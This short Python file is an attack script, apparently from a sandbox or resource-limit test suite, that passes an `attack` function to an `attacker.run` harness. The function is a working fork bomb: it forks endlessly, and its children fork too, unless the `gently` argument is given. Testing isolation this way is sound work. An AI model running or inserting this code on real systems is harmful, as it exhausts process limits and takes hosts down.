"""Forks without end, and so do its children; with the word `gently` they do not."""

import os
import signal
import sys
from typing import Any

from attacker import run


def attack() -> dict[str, Any]:
    while True:
        try:
            if not os.fork() and "gently" in sys.argv:
                signal.pause()
        except OSError:
            signal.pause()


run(attack)
